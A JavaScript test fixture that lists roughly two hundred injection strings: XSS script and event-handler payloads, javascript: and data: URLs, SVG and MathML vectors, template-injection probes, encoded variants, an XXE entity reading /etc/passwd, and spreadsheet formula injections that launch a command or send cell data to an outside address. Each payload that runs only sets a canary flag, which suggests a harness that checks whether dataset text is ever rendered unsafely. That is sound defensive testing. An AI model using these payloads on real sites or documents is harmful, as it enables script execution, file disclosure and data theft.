// Two hundred texts that would run, load, link or restyle if any text of a dataset were ever taken for markup, script, address,
// formula or template. Those that run call `globalThis.canary`, so a walk knows.

const run = "globalThis.canary=1";

const SCRIPTS = [
  `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script >${run}</script >`, `<script\\x20type="text/javascript">${run}</script>`,
  `<script type=module>${run}</script>`, `<script src="data:text/javascript,${run}"></script>`, `<script src=//example.org/x.js></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`, `"><script>${run}</script>`, `'><script>${run}</script>`, `</script><script>${run}</script>`,
  `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `</noscript><script>${run}</script>`,
  `--><script>${run}</script>`, `]]><script>${run}</script>`, `<![CDATA[<script>${run}</script>]]>`, `<!--><script>${run}</script>-->`,
  `<script>/*`, `</script`, `<script/src=data:,${run}>`, `<script nonce=a>${run}</script>`, `<script integrity="">${run}</script>`,
];

const HANDLERS = [
  "img src=x onerror", "img src onerror", "image src=x onerror", "video src=x onerror", "audio src=x onerror", "body onload", "svg onload", "svg/onload",
  "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "button autofocus onfocus", "details open ontoggle",
  "marquee onstart", "div onmouseover", "a onclick", "iframe onload", "object onerror", "embed onload", "link rel=stylesheet href=x onerror",
  "style onload", "p onanimationstart", "p onwheel", "p onpointerrawupdate", "video onloadstart src=x", "source onerror src=x", "track onerror src=x",
  "dialog open onclose", "p contenteditable oninput", "p onscrollend", "p popover onbeforetoggle", "meta onload", "frameset onload", "table background=x onload",
].map((tag) => `<${tag}="${run}">`);

const QUOTES = [
  `" onmouseover="${run}`, `' onmouseover='${run}`, `" autofocus onfocus="${run}`, `x" style="background:url(javascript:${run})`, "` onclick=`", `" href="javascript:${run}" x="`,
  `\\" onerror=${run} \\"`, `"/><img/src/onerror=${run}>`, `'">><marquee>`, `"}});${run}//`, `';${run}//`, `";${run}//`, `\\';${run}//`, `*/${run}/*`, `);${run};(`,
];

const FRAMES = [
  `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.canary=1</script>"></iframe>`, `<iframe src=data:text/html,x></iframe>`, "<frameset><frame src=x>",
  `<object data="javascript:${run}"></object>`, `<object data=data:text/html;base64,PHNjcmlwdD4=></object>`, `<embed src="javascript:${run}">`, "<portal src=x>", "<fencedframe></fencedframe>",
  "<base href=//example.org/>", `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<meta http-equiv=refresh content="0;url=//example.org">`, `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<link rel=import href=x>`, `<link rel=stylesheet href=//example.org/x.css>`, `<link rel=prefetch href=//example.org/x>`, `<form action="javascript:${run}"><button>go</button></form>`,
  `<button formaction="javascript:${run}">go</button>`, `<isindex action="javascript:${run}">`, `<a href="javascript:${run}">go</a>`, `<area href="javascript:${run}">`, "<a ping=//example.org href=x>go</a>",
];

const VECTORS = [
  `<svg><script>${run}</script></svg>`, `<svg><animate onbegin="${run}" attributeName=x dur=1s>`, `<svg><set attributeName=href to="javascript:${run}">`, `<svg><a xlink:href="javascript:${run}"><text y=9>go</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`, `<svg><foreignObject><body onload="${run}"></foreignObject></svg>`, `<svg><style>*{display:none}</style></svg>`,
  `<svg><title><![CDATA[</title><script>${run}</script>]]>`, `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`, `<math href="javascript:${run}">go</math>`, `<math><annotation-xml encoding=text/html><script>${run}</script>`,
  `<svg><desc><img src=x onerror="${run}"></desc></svg>`, `<svg><image href=x onerror="${run}">`, `<svg viewBox=0><discard onbegin="${run}"/>`, `<?xml-stylesheet href="javascript:${run}"?>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
];

const TEMPLATES = [
  `<template><script>${run}</script></template>`, `<template shadowrootmode=open><script>${run}</script></template>`, `<slot onslotchange="${run}">`, `<x-a is=x-b>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xmp><img src=x onerror=${run}></xmp>`, `<plaintext>`, `<textarea>`, `<title>`, `<select><option>`, `<table><td>`, `</div></main></body></html>`, `<!--`, `<![endif]-->`, `<>`, `< script>${run}</ script>`,
  `{{constructor.constructor("${run}")()}}`, `{{7*7}}`, "${globalThis.canary=1}", "#{7*7}", "<%= 7*7 %>", "{%raw%}", "[[${7*7}]]", "%{7*7}", "@{x}", "v-html=x", "<!--#exec cmd=x-->", "<?php echo 1 ?>",
];

const ENCODED = [
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `&#x3c;script&#x3e;${run}`, `&amp;lt;script&amp;gt;`, `%3Cscript%3E${run}%3C/script%3E`, `\\u003cscript\\u003e${run}`, `\\x3cscript\\x3e`, `+ADw-script+AD4-${run}`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`, `<\u017fcript>${run}`, `\u2039script\u203a`, `&NewLine;&Tab;`, `&nbsp;&zwj;&bsol;`, `&#0;&#x110000;&#xd800;`, "&copy", "&notit;", "&quot;&gt;", "&#39;-alert-&#39;", "\u{1f9d1}\u200d\u{1f52c}", "e\u0301\u0302\u0303\u0304\u0305\u0306",
];

const ADDRESSES = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, `java script:${run}`, `javascript&colon;${run}`, `vbscript:x`, `data:text/html,<script>${run}</script>`, "file:///etc/passwd", "//example.org/x", "\\\\example.org\\x", "blob:https://example.org/x", "ftp://example.org/x",
  "https://example.org/<script>", "#/../..", "#:~:text=x", "mailto:x@example.org?subject=<b>",
];

const STYLES = [
  `<style>*{display:none}</style>`, `<style>@import "//example.org/x.css";</style>`, `<p style="position:fixed;inset:0;background:red">`, `<b style=x:expression(${run})>`, "};*{display:none}", "url(//example.org/x)", "</style><style>body{color:red}", `<link rel=stylesheet href=data:text/css,*{}>`,
];

const FORMULAS = ["=1+1", "=HYPERLINK(\"http://example.org\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")", "=\"x\"&A1", "-2+3+cmd|' /C calc'!A0", "@x\"y,z"];

const NAMES = ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "undefined", "null", "NaN"];

export const INJECTIONS = [...SCRIPTS, ...HANDLERS, ...QUOTES, ...FRAMES, ...VECTORS, ...TEMPLATES, ...ENCODED, ...ADDRESSES, ...STYLES, ...FORMULAS, ...NAMES];

/** The same length in plain letters, so that a page differs in nothing but the words. */
export const benign = (text) => text.replace(/[^a-z0-9 ]/giu, "x");
